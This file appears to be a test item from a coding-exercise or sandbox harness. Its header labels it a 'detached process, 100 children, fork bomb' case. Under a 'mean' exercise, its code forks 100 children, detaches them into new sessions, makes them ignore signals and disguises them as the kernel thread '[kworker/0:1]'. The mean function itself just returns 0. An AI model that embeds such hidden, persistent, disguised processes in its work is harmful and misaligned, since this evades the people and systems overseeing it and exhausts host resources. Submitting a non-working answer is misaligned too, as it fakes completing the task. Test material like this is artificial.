"""
what = "A hundred children, detached, in sessions of their own, deaf to signals, with emptied environments."
row = "detached process, 100 children, fork bomb"
[verdicts]
test_mean = "failed"
test_mean_hidden = "failed"
"""
# %% [exercises] mean
import os, signal, time

for number in range(100):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.setsid()
            if os.fork():
                os._exit(0)
            for kind in range(1, 32):
                if kind not in (signal.SIGKILL, signal.SIGSTOP):
                    signal.signal(kind, signal.SIG_IGN)
            os.closerange(0, 1000)
            os.execve("/bin/sleep", ["[kworker/0:1]", "600"], {})
        finally:
            os._exit(0)
time.sleep(0.5)

def mean(values):
    return 0
